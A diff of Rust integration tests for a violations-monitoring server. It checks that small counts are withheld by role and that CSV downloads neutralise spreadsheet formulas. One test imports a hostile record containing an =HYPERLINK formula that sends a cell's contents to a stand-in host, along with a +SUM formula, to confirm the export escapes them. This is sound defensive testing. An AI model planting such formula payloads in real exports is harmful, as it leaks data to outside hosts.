@@ -743,7 +743,7 @@ async fn public_access_gives_anonymous_visitors_the_public_version_only() {
     assert_eq!(call(&app, switch(true)).await.status, StatusCode::OK);
     let tables = call(&app, anonymous("/api/v1/tables?month=2021-11")).await;
     assert_eq!(tables.status, StatusCode::OK, "{}", tables.json);
-    assert_eq!(tables.json["public"], true);
+    assert_eq!(tables.json["min_count"], 5, "figures pass the disclosure rule");
     let sex = tables.json["tables"]
         .as_array()
         .expect("cells")
@@ -751,7 +751,10 @@ async fn public_access_gives_anonymous_visitors_the_public_version_only() {
         .filter(|c| c["table"] == "sex")
         .cloned()
         .collect::<Vec<_>>();
-    assert!(!sex.is_empty() && sex.iter().all(|c| c["value"] == "<5"), "one victim of each sex: hidden {sex:?}");
+    assert!(
+        !sex.is_empty() && sex.iter().all(|c| c["value"].is_null() && c["suppressed"] == true),
+        "one victim of each sex: withheld {sex:?}"
+    );
     let report = app.clone().oneshot(anonymous("/api/v1/reports/2021-11/html")).await.expect("response");
     assert_eq!(report.status(), StatusCode::OK);
     let html = String::from_utf8(report.into_body().collect().await.expect("body").to_bytes().to_vec()).expect("utf-8");
@@ -896,6 +899,129 @@ async fn the_openapi_document_lists_every_route_and_is_served_to_anyone() {
     insta::assert_snapshot!("openapi", pretty);
 }
 
+/// The disclosure rule through the aggregate surfaces: V-1 (partner A's, DRC) is alone on its
+/// commune and day. Its own partner and the IM officer read its count; a viewer, the other
+/// organisation's partner and an anonymous visitor read no count below k anywhere.
+#[tokio::test]
+async fn one_violation_on_a_commune_and_day_reaches_only_its_partner_and_the_im_officer() {
+    let server = server(|_| ());
+    let app = vigie_server::router(Arc::clone(&server.state));
+    let get = |path: &str, cookie: Option<&str>| {
+        let mut request = request("GET", path, None);
+        if let Some(cookie) = cookie {
+            request = request.header(header::COOKIE, cookie);
+        }
+        request.body(Body::empty()).expect("request")
+    };
+    let (admin, csrf) = login(&app, "admin").await;
+    let public = request("PUT", "/api/v1/settings", Some(serde_json::Value::Null))
+        .header(header::COOKIE, &admin)
+        .header("x-csrf-token", &csrf)
+        .body(Body::from(serde_json::json!({ "public_access": true }).to_string()))
+        .expect("request");
+    assert_eq!(call(&app, public).await.status, StatusCode::OK);
+    let filtered = "month=2021-11&commune=ML040503&from=2021-11-03&to=2021-11-03";
+    let total = |json: &serde_json::Value| {
+        json["tables"].as_array().and_then(|cells| {
+            cells
+                .iter()
+                .find(|c| c["table"] == "category_by_region" && c["row"] == "TOTAL" && c["column"] == "TOTAL")
+                .cloned()
+        })
+    };
+    for who in ["im", "partner-a"] {
+        let (cookie, _) = login(&app, who).await;
+        let answer = call(&app, get(&format!("/api/v1/tables?{filtered}"), Some(&cookie))).await;
+        assert_eq!(total(&answer.json).map(|c| c["value"].clone()), Some(1.into()), "{who}: {}", answer.json);
+        let page = call(&app, get(&format!("/dashboard?{filtered}"), Some(&cookie))).await;
+        assert!(page.text.contains("data-value=\"1\""), "{who}: the dashboard's key figure");
+        let csv = call(&app, get("/api/v1/reports/2021-11/tables.csv", Some(&cookie))).await;
+        assert!(csv.text.contains("admin2,ML0405,count,1"), "{who}: {}", csv.text);
+    }
+    for who in ["viewer", "partner-b"] {
+        let (cookie, _) = login(&app, who).await;
+        let answer = call(&app, get(&format!("/api/v1/tables?{filtered}"), Some(&cookie))).await;
+        assert_eq!(answer.status, StatusCode::OK);
+        assert_eq!(
+            (answer.json["suppressed"].clone(), total(&answer.json)),
+            (true.into(), None),
+            "{who}: no count at all"
+        );
+        let page = call(&app, get(&format!("/dashboard?{filtered}"), Some(&cookie))).await;
+        assert!(page.text.contains("id=\"too-few\"") && !page.text.contains("data-value="), "{who}: {}", page.text);
+        let national = call(&app, get("/api/v1/tables?month=2021-11", Some(&cookie))).await;
+        // Partner B's own V-2 (ML0501, F) is exact for it; V-1 (ML0405, M) is hidden from both.
+        for cell in national.json["tables"].as_array().expect("cells") {
+            let (table, row) = (cell["table"].as_str().unwrap_or(""), cell["row"].as_str().unwrap_or(""));
+            let sensitive = ["admin2", "sex", "age_group", "occupation", "population"].contains(&table);
+            if sensitive && (who == "viewer" || ["ML0405", "M", "ADULT", "TRADER", "RESIDENT"].contains(&row)) {
+                assert!(cell["value"].is_null() && cell["suppressed"] == true, "{who}: {cell}");
+            }
+        }
+        assert_eq!(total(&national.json).map(|c| c["value"].clone()), Some(2.into()), "a published cut stays exact");
+        let csv = call(&app, get("/api/v1/reports/2021-11/tables.csv", Some(&cookie))).await;
+        assert!(csv.text.contains("admin2,ML0405,count,<5") && !csv.text.contains("admin2,ML0405,count,1"), "{who}");
+        let html = call(&app, get("/api/v1/reports/2021-11/html", Some(&cookie))).await;
+        assert!(!html.text.contains("Liste des incidents"), "{who}: no incident list");
+    }
+    let anonymous = call(&app, get(&format!("/api/v1/tables?{filtered}"), None)).await;
+    assert_eq!(anonymous.status, StatusCode::BAD_REQUEST, "{}", anonymous.json);
+    assert!(anonymous.text.contains("region and category"), "the allowed filters are named: {}", anonymous.text);
+    let dashboard = call(&app, get(&format!("/dashboard?{filtered}"), None)).await;
+    assert_eq!(dashboard.status, StatusCode::BAD_REQUEST);
+    let store = server.store();
+    let withheld = store.audit_log(200).expect("audit").into_iter().filter(|e| e.action == "withheld").count();
+    assert!(withheld >= 4, "every withheld answer audited: {withheld}");
+}
+
+/// A partner's text that a spreadsheet would run (`=HYPERLINK(…)`, `+SUM(…)`) reaches the
+/// download behind a `'`, a longitude stays a number, and the download imports back unchanged.
+#[tokio::test]
+async fn downloads_carry_no_formula_and_import_back_as_they_were() {
+    let server = server(|_| ());
+    let app = vigie_server::router(Arc::clone(&server.state));
+    let bearer = format!("Bearer {}", server.token);
+    let hostile = V1
+        .replace(",,,,ML040503,,,,", ",,,,ML040503,+SUM(1,2),14.5,-3.9914,")
+        .replace("Récit A", "=HYPERLINK(\"http://x?\"&A2,\"details\")");
+    let csv_body = format!(
+        "{HEADER}\n{}\n",
+        hostile.replace("+SUM(1,2)", "\"+SUM(1,2)\"").replace(
+            "=HYPERLINK(\"http://x?\"&A2,\"details\")",
+            "\"=HYPERLINK(\"\"http://x?\"\"&A2,\"\"details\"\")\""
+        )
+    );
+    let import = |body: String| {
+        request("POST", "/api/v1/imports/violations", None)
+            .header(header::AUTHORIZATION, &bearer)
+            .header(header::CONTENT_TYPE, "text/csv")
+            .body(Body::from(body))
+            .expect("request")
+    };
+    let first = call(&app, import(csv_body)).await;
+    assert_eq!(first.json["total"]["updated"], 1, "{}", first.json);
+    let download = request("GET", "/violations.csv", None)
+        .header(header::AUTHORIZATION, &bearer)
+        .body(Body::empty())
+        .expect("request");
+    let download = call(&app, download).await;
+    assert_eq!(download.status, StatusCode::OK);
+    assert!(download.text.contains("\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"details\"\")\""), "{}", download.text);
+    assert!(download.text.contains("\"'+SUM(1,2)\"") && download.text.contains(",-3.9914,"), "{}", download.text);
+    for line in download.text.lines() {
+        for cell in line.split(',') {
+            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '@']), "{cell} in {line}");
+        }
+    }
+    let again = call(&app, import(download.text.clone())).await;
+    assert_eq!(
+        (again.json["total"]["updated"].clone(), again.json["total"]["inserted"].clone()),
+        (0.into(), 0.into()),
+        "the download imports back unchanged: {}",
+        again.json
+    );
+}
+
 /// The pages: sign-in by form, the dashboard's key figures equal to the tables' for the same
 /// month and filters, the language kept in a cookie, sign-out by form with its CSRF token.
 #[tokio::test]
@@ -910,7 +1036,7 @@ async fn the_dashboard_shows_the_tables_figures_to_a_signed_in_user_in_their_lan
     let sign_in = |password: &str| {
         request("POST", "/login", None)
             .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
-            .body(Body::from(format!("name=viewer&password={}", password.replace(' ', "+"))))
+            .body(Body::from(format!("name=im&password={}", password.replace(' ', "+"))))
             .expect("request")
     };
     let wrong = call(&app, sign_in("not the password")).await;
